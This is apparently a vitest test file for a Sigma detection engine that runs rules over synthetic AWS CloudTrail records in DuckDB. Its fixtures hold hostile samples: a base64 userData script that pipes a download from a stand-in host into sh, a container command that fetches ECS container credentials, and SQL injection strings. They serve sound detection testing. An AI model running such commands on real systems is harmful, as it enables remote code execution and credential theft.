/**
 * The Sigma engine end to end on DuckDB: every modifier and condition form, positive and negative.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  compileRule,
  loadMapping,
  type Mapping,
  parseSigma,
  runSigmaRules,
  type SigmaRule,
} from '../src/rules/sigma/index.js';
import { ct, eventsDb, type TestDb } from './helpers/ct-row.js';

const assumed = {
  type: 'AssumedRole',
  principalId: 'AROAEXAMPLE:ops',
  arn: 'arn:aws:sts::111111111111:assumed-role/Ops/ops',
  accountId: '111111111111',
  accessKeyId: 'ASIAEXAMPLE',
  sessionContext: {
    sessionIssuer: { type: 'Role', arn: 'arn:aws:iam::111111111111:role/Ops', userName: 'Ops' },
    attributes: { creationDate: '2025-01-01T10:00:00Z', mfaAuthenticated: 'false' },
  },
};

const RECORDS = [
  ct({
    eventID: 'e1',
    eventName: 'CreateUser',
    eventTime: '2025-01-01T13:05:00Z',
    readOnly: false,
    requestParameters: { userName: 'bob', tags: [{ key: 'team', value: 'red' }], maxResults: 7 },
    responseElements: { user: { userName: 'bob', arn: 'arn:aws:iam::111111111111:user/bob' } },
  }),
  ct({
    eventID: 'e2',
    eventSource: 's3.amazonaws.com',
    eventName: 'PutBucketVersioning',
    userIdentity: assumed,
    sourceIPAddress: '10.1.2.3',
    errorCode: 'AccessDenied',
    errorMessage: 'line1\nline2',
    readOnly: false,
    requestParameters: { bucketName: 'b1', VersioningConfiguration: { Status: 'Suspended' } },
  }),
  ct({
    eventID: 'e3',
    eventSource: 'ecs.amazonaws.com',
    eventName: 'RegisterTaskDefinition',
    sourceIPAddress: '2001:db8::1',
    userAgent: 'Boto3/1.34 TruffleHog',
    requestParameters: {
      family: 'web',
      containerDefinitions: [
        { name: 'app', command: ['nginx'] },
        { name: 'side', command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'] },
      ],
    },
  }),
  ct({
    eventID: 'e4',
    eventName: 'PutUserPolicy',
    userAgent: '[S3 Browser 11.4.5 https://s3browser.com]',
    requestParameters: {
      userName: 'bob',
      policyName: 'p',
      policyDocument:
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":["s3:GetObject"],"Resource":"arn:aws:s3:::<YOUR-BUCKET-NAME>/*"}]}',
    },
  }),
  ct({
    eventID: 'e5',
    eventSource: 'rds.amazonaws.com',
    eventName: 'RestoreDBInstanceFromDBSnapshot',
    sourceIPAddress: 'AWS Internal',
    userAgent: 'AWS Internal',
    responseElements: { publiclyAccessible: true, allocatedStorage: 20, engineVersion: '1.10' },
  }),
  ct({
    eventID: 'e6',
    eventName: 'GetUser',
    userAgent: 'agent*with?star\\path',
    errorMessage: '',
    requestParameters: {
      userData: Buffer.from('#!/bin/bash\ncurl http://evil.example/x | sh').toString('base64'),
    },
  }),
  ct({
    eventID: 'e7',
    eventSource: 's3.amazonaws.com',
    eventName: 'ListBuckets',
    eventTime: '2025-01-01T02:30:00Z',
    userIdentity: { type: 'Root', arn: 'arn:aws:iam::111111111111:root', accountId: '111111111111' },
    userAgent: 'tool /flag',
    sourceIPAddress: '203.0.113.200',
  }),
  ct({
    eventID: 'e8',
    eventName: 'UpdateLoginProfile',
    requestParameters: { userName: 'alice', 'we"ird\'key': 'v', 'dot.key': 'd' },
    additionalEventData: { MFAUsed: 'No', note: 'ÉVÉNEMENT' },
  }),
];

let db: TestDb;
let mapping: Mapping;

beforeAll(async () => {
  mapping = await loadMapping();
  db = await eventsDb(RECORDS);
});
afterAll(() => db.close());

function ruleOf(detection: string, logsource = 'product: aws\n  service: cloudtrail'): SigmaRule {
  const text = `title: t\nid: 00000000-0000-4000-8000-000000000000\nlogsource:\n  ${logsource}\ndetection:\n${detection
    .trim()
    .split('\n')
    .map((l) => `  ${l}`)
    .join('\n')}\n`;
  const r = parseSigma(text, 'test.yml');
  if (r.errors.length) throw new Error(r.errors.map((e) => e.error).join('; '));
  return r.rules[0];
}

async function match(
  detection: string,
  opts: { placeholders?: Record<string, string[]> } = {},
): Promise<string[]> {
  const c = compileRule(ruleOf(detection), { mapping, ...opts });
  if ('error' in c) throw new Error(c.error);
  const rows = await db.all(c.sql);
  return rows.map((r) => String(r.uid)).sort();
}

const sel = (body: string, cond = 'selection'): string =>
  `selection:\n${body.replace(/^/gm, '  ')}\ncondition: ${cond}`;

describe('sigma engine: values', () => {
  it('matches case-insensitively by default, exactly with cased', async () => {
    expect(await match(sel('eventName: createuser'))).toEqual(['e1']);
    expect(await match(sel('eventName|cased: createuser'))).toEqual([]);
    expect(await match(sel('eventName|cased: CreateUser'))).toEqual(['e1']);
    expect(await match(sel("additionalEventData.note: 'événement'"))).toEqual(['e8']);
  });

  it('handles wildcards, escapes and SQL LIKE characters', async () => {
    expect(await match(sel("eventName: 'Create*'"))).toEqual(['e1']);
    expect(await match(sel("eventName: 'Put?ucketVersioning'"))).toEqual(['e2']);
    expect(await match(sel("userAgent: 'agent\\*with\\?star\\path'"))).toEqual(['e6']);
    expect(await match(sel("userAgent: 'agent\\*with\\?star\\\\path'"))).toEqual(['e6']);
    expect(await match(sel("userAgent: 'agent?with*'"))).toEqual(['e6']);
    expect(await match(sel("userAgent: 'agent\\?with*'"))).toEqual([]);
    expect(await match(sel("eventName: 'Put_ucket%'"))).toEqual([]);
    expect(await match(sel("eventName: 'PutBucketVersioning_'"))).toEqual([]);
  });

  it('applies contains, startswith, endswith', async () => {
    expect(await match(sel("userAgent|contains: 'S3 Browser'"))).toEqual(['e4']);
    expect(await match(sel("userAgent|contains: 's3 browser'"))).toEqual(['e4']);
    expect(await match(sel("eventName|startswith: 'Put'"))).toEqual(['e2', 'e4']);
    expect(await match(sel("eventName|endswith: 'User'"))).toEqual(['e1', 'e6']);
    expect(await match(sel("eventName|endswith: 'Use'"))).toEqual([]);
  });

  it('links lists with OR, or AND with all', async () => {
    expect(await match(sel('eventName:\n  - CreateUser\n  - ListBuckets'))).toEqual(['e1', 'e7']);
    expect(await match(sel("userAgent|contains|all:\n  - 'S3'\n  - 'Browser'"))).toEqual(['e4']);
    expect(await match(sel("userAgent|contains|all:\n  - 'S3'\n  - 'nope'"))).toEqual([]);
  });

  it('treats null as missing and empty string as empty', async () => {
    expect(await match(sel("eventSource: 's3.amazonaws.com'\nerrorCode: null"))).toEqual(['e7']);
    expect(await match(sel("errorMessage: ''"))).toEqual(['e6']);
    expect(await match(sel('requestParameters: null'))).toEqual(['e5', 'e7']);
    expect(await match(sel('requestParameters.userName: null\neventSource: iam.amazonaws.com'))).toEqual([
      'e6',
    ]);
  });

  it('tests existence', async () => {
    expect(await match(sel('requestParameters.userName|exists: true'))).toEqual(['e1', 'e4', 'e8']);
    expect(await match(sel('errorCode|exists: true'))).toEqual(['e2']);
    expect(await match(sel('errorMessage|exists: true'))).toEqual(['e2', 'e6']);
    expect(await match(sel('additionalEventData|exists: false\neventName: UpdateLoginProfile'))).toEqual([]);
  });

  it('matches regular expressions with i, m, s flags', async () => {
    expect(await match(sel("userIdentity.arn|re: ':user/ALICE$'"))).toEqual([]);
    expect(await match(sel("userIdentity.arn|re|i: ':user/ALICE$'\neventName: CreateUser"))).toEqual(['e1']);
    expect(await match(sel("errorMessage|re: '^line2'"))).toEqual([]);
    expect(await match(sel("errorMessage|re|m: '^line2'"))).toEqual(['e2']);
    expect(await match(sel("errorMessage|re: 'line1.line2'"))).toEqual([]);
    expect(await match(sel("errorMessage|re|s: 'line1.line2'"))).toEqual(['e2']);
    expect(await match(sel("userIdentity.arn|re: '.+:assumed-role/Ops/.+'"))).toEqual(['e2']);
  });

  it('tests IPv4 and IPv6 networks', async () => {
    expect(await match(sel('sourceIPAddress|cidr: 10.0.0.0/8'))).toEqual(['e2']);
    expect(await match(sel('sourceIPAddress|cidr: 203.0.113.0/25'))).toEqual(['e1', 'e4', 'e6', 'e8']);
    expect(await match(sel('sourceIPAddress|cidr: 203.0.113.128/25'))).toEqual(['e7']);
    expect(await match(sel('sourceIPAddress|cidr:\n  - 10.1.2.3/32\n  - 203.0.113.200/32'))).toEqual([
      'e2',
      'e7',
    ]);
    expect(await match(sel("sourceIPAddress|cidr: '2001:db8::/32'"))).toEqual(['e3']);
    expect(await match(sel("sourceIPAddress|cidr: '2001:db8:0:0:0:0:0:0/126'"))).toEqual(['e3']);
    expect(await match(sel("sourceIPAddress|cidr: '2001:db8::4/126'"))).toEqual([]);
    expect(await match(sel("sourceIPAddress|cidr: '2001:db9::/32'"))).toEqual([]);
    expect(await match(sel("sourceIPAddress|cidr: '2001:db8::/31'"))).toEqual(['e3']);
    expect(await match(sel("sourceIPAddress|cidr: '::/0'"))).toEqual(['e3']);
  });

  it('compares numbers, booleans and YAML numbers as written', async () => {
    expect(await match(sel('responseElements.allocatedStorage|gt: 10'))).toEqual(['e5']);
    expect(await match(sel('responseElements.allocatedStorage|lte: 19'))).toEqual([]);
    expect(await match(sel('responseElements.allocatedStorage: 20'))).toEqual(['e5']);
    expect(await match(sel('requestParameters.maxResults|gte: 7'))).toEqual(['e1']);
    expect(await match(sel('responseElements.engineVersion: 1.10'))).toEqual(['e5']);
    expect(await match(sel('readOnly: false'))).toEqual(['e1', 'e2']);
    expect(await match(sel("readOnly: 'FALSE'"))).toEqual(['e1', 'e2']);
    expect(await match(sel("responseElements.publiclyAccessible: 'true'"))).toEqual(['e5']);
    expect(await match(sel('responseElements.publiclyAccessible: true'))).toEqual(['e5']);
    expect(await match(sel("userIdentity.sessionContext.attributes.mfaAuthenticated: 'false'"))).toEqual([
      'e2',
    ]);
    expect(await match(sel('userIdentity.sessionContext.attributes.mfaAuthenticated: true'))).toEqual([]);
  });

  it('decodes base64, base64offset, utf16 and windash values', async () => {
    expect(
      await match(sel("requestParameters.userData|base64offset|contains: 'curl http://evil.example'")),
    ).toEqual(['e6']);
    expect(await match(sel("requestParameters.userData|base64offset|contains: 'wget'"))).toEqual([]);
    expect(await match(sel("requestParameters.userData|base64|startswith: '#!/bin/bash'"))).toEqual([]);
    expect(await match(sel("requestParameters.userData|base64|startswith: '#!/bin'"))).toEqual(['e6']);
    expect(await match(sel("userAgent|windash|contains: ' -flag'"))).toEqual(['e7']);
    expect(await match(sel("userAgent|contains: ' -flag'"))).toEqual([]);
  });

  it('compares fields with fieldref', async () => {
    expect(await match(sel('userIdentity.userName|fieldref: requestParameters.userName'))).toEqual(['e8']);
    expect(await match(sel('userIdentity.arn|fieldref|endswith: requestParameters.userName'))).toEqual([
      'e8',
    ]);
    expect(await match(sel('userIdentity.arn|fieldref: requestParameters.userName'))).toEqual([]);
    expect(await match(sel('responseElements.user.userName|fieldref: requestParameters.userName'))).toEqual([
      'e1',
    ]);
  });

  it('negates values with neq', async () => {
    expect(await match(sel('eventSource: s3.amazonaws.com\neventName|neq: ListBuckets'))).toEqual(['e2']);
    expect(
      await match(
        sel('eventSource: s3.amazonaws.com\neventName|neq:\n  - ListBuckets\n  - PutBucketVersioning'),
      ),
    ).toEqual([]);
  });

  it('extracts time parts', async () => {
    expect(await match(sel('eventTime|hour: 2'))).toEqual(['e7']);
    expect(await match(sel('eventTime|hour|gte: 13'))).toEqual(['e1']);
    expect(await match(sel('eventTime|year: 2025\neventName: ListBuckets'))).toEqual(['e7']);
    expect(await match(sel('userIdentity.sessionContext.attributes.creationDate|hour: 10'))).toEqual(['e2']);
  });

  it('walks arrays and nested JSON like a flattened document', async () => {
    expect(
      await match(
        sel(
          "requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'",
        ),
      ),
    ).toEqual(['e3']);
    expect(await match(sel("requestParameters.containerDefinitions.command: 'nginx'"))).toEqual(['e3']);
    expect(await match(sel("requestParameters.containerDefinitions.name: 'side'"))).toEqual(['e3']);
    expect(await match(sel('requestParameters.tags.key: team'))).toEqual(['e1']);
    expect(await match(sel("requestParameters|contains: 'Suspended'"))).toEqual(['e2']);
    expect(
      await match(
        sel(
          'requestParameters|contains|all:\n  - \'"arn:aws:s3:::<YOUR-BUCKET-NAME>/*"\'\n  - \'"s3:GetObject"\'',
        ),
      ),
    ).toEqual(['e4']);
    expect(await match(sel('requestParameters.we"ird\'key: v'))).toEqual(['e8']);
    expect(await match(sel('userIdentity.sessionContext.sessionIssuer.type: Role'))).toEqual(['e2']);
  });

  it('searches keywords over the whole record', async () => {
    expect(await match("keywords:\n  - 'TruffleHog'\ncondition: keywords")).toEqual(['e3']);
    expect(await match("keywords:\n  - 's3:GetObject'\n  - 'evil-nothing'\ncondition: keywords")).toEqual([
      'e4',
    ]);
    expect(
      await match("keywords:\n  '|all':\n    - 'S3 Browser'\n    - 'PutUserPolicy'\ncondition: keywords"),
    ).toEqual(['e4']);
  });

  it('expands placeholders only when given', async () => {
    const det =
      "selection:\n  eventName: ListBuckets\nfilter:\n  sourceIPAddress|expand: '%trusted%'\ncondition: selection and not filter";
    await expect(match(det)).rejects.toThrow(/placeholder %trusted% has no values/);
    expect(await match(det, { placeholders: { trusted: ['203.0.113.*'] } })).toEqual([]);
    expect(await match(det, { placeholders: { trusted: ['198.51.100.*'] } })).toEqual(['e7']);
  });

  it('keeps untrusted literals out of the SQL', async () => {
    expect(await match(sel("eventName: \"x' OR '1'='1\""))).toEqual([]);
    expect(await match(sel('eventName: "x\'); DROP TABLE events; --"'))).toEqual([]);
    expect(await match(sel('userAgent|re: "\'\\\\\\\\"'))).toEqual([]);
    expect((await db.all('SELECT COUNT(*) AS n FROM events'))[0].n).toBe(RECORDS.length);
  });
});

describe('sigma engine: conditions', () => {
  const det = `
iam:
  eventSource: iam.amazonaws.com
s3:
  eventSource: s3.amazonaws.com
selection_create:
  eventName: CreateUser
selection_put:
  eventName|startswith: Put
filter_err:
  errorCode|exists: true
_private:
  eventName: GetUser
`;
  const cases: Array<[string, string[]]> = [
    ['iam and selection_create', ['e1']],
    ['iam or s3', ['e1', 'e2', 'e4', 'e6', 'e7', 'e8']],
    ['s3 and not filter_err', ['e7']],
    ['not iam and not s3', ['e3', 'e5']],
    ['(iam or s3) and selection_put', ['e2', 'e4']],
    ['iam or s3 and selection_put', ['e1', 'e2', 'e4', 'e6', 'e8']],
    ['1 of selection_*', ['e1', 'e2', 'e4']],
    ['all of selection_*', []],
    ['1 of selection_* and not 1 of filter*', ['e1', 'e4']],
    ['all of them', []],
    ['1 of them', ['e1', 'e2', 'e4', 'e6', 'e7', 'e8']],
    ['_private', ['e6']],
    ['not (iam or s3)', ['e3', 'e5']],
  ];
  for (const [cond, want] of cases) {
    it(cond, async () => {
      expect(await match(`${det}\ncondition: ${cond}`)).toEqual(want);
    });
  }

  it('ORs a list of maps and a list of conditions', async () => {
    expect(
      await match("sel:\n  - eventName: CreateUser\n  - sourceIPAddress: 'AWS Internal'\ncondition: sel"),
    ).toEqual(['e1', 'e5']);
    expect(
      await match('a:\n  eventName: CreateUser\nb:\n  eventName: GetUser\ncondition:\n  - a\n  - b'),
    ).toEqual(['e1', 'e6']);
  });

  it('keeps events that lack a filtered field (not is NULL-safe)', async () => {
    expect(
      await match(
        'sel:\n  eventSource: iam.amazonaws.com\nf:\n  requestParameters.policyName: p\ncondition: sel and not f',
      ),
    ).toEqual(['e1', 'e6', 'e8']);
  });

  it('reports what cannot be compiled', () => {
    const err = (d: string, ls?: string): string => {
      const c = compileRule(ruleOf(d, ls), { mapping });
      return 'error' in c ? c.error : 'compiled';
    };
    expect(err('a:\n  eventName: x\ncondition: b')).toMatch(/"b", which is not a search identifier/);
    expect(err('a:\n  eventName: x\ncondition: 1 of f*')).toMatch(/matches no search identifier/);
    expect(err('a:\n  eventName|nope: x\ncondition: a')).toMatch(/a: unknown modifier "nope"/);
    expect(err("a:\n  eventName|re: '(?<=x)y'\ncondition: a")).toMatch(/look-around/);
    expect(err('a:\n  Image: x\ncondition: a', 'product: windows\n  category: process_creation')).toMatch(
      /unsupported log source \(product: windows, category: process_creation\)/,
    );
    expect(err('a:\n  eventName: x\ntimeframe: 5m\ncondition: a | count() > 3')).toBe('compiled');
    expect(err('a:\n  eventName: x\ncondition: a | count() > 3')).toMatch(/without timeframe/);
  });
});

describe('sigma engine: filters and running', () => {
  it('applies a Sigma filter to the rules it names and reports every rule', async () => {
    const text = `title: S3 calls
id: 11111111-1111-4111-8111-111111111111
logsource: {product: aws, service: cloudtrail}
detection:
  sel: {eventSource: s3.amazonaws.com}
  condition: sel
---
title: Ignore root
logsource: {product: aws, service: cloudtrail}
filter:
  rules: [11111111-1111-4111-8111-111111111111]
  selection: {userIdentity.type: Root}
  condition: selection
---
title: Windows only
logsource: {product: windows}
detection:
  sel: {Image: x}
  condition: sel
`;
    const { rules, errors } = parseSigma(text, 'f.yml');
    expect(errors).toEqual([]);
    const res = await runSigmaRules(db, rules, { mapping });
    expect(res.map((r) => r.hits.length)).toEqual([1, 0, 0]);
    expect(res[0].hits[0]).toMatchObject({
      kind: 'event',
      uid: 'e2',
      eventId: 'e2',
      service: 's3.amazonaws.com',
      time: '2025-01-01T00:00:00.000Z',
    });
    expect(res[0].warnings).toContain('filter "Ignore root" applied');
    expect(res[1].skipped).toMatch(/filter/);
    expect(res[2].error).toMatch(/unsupported log source/);
  });

  it('caps the hits and says so', async () => {
    const rules = parseSigma(
      'title: all\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s: {eventVersion: "1.09"}\n  condition: s\n',
    ).rules;
    const [r] = await runSigmaRules(db, rules, { mapping, maxHits: 3 });
    expect(r.hits).toHaveLength(3);
    expect(r.truncated).toBe(true);
  });

  it('reports query failures instead of throwing', async () => {
    const rules = parseSigma(
      'title: x\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  s: {eventName: x}\n  condition: s\n',
    ).rules;
    const broken = { all: async () => Promise.reject(new Error('boom\nstack')) };
    const [r] = await runSigmaRules(broken, rules, { mapping });
    expect(r.error).toBe('query failed: boom');
  });
});
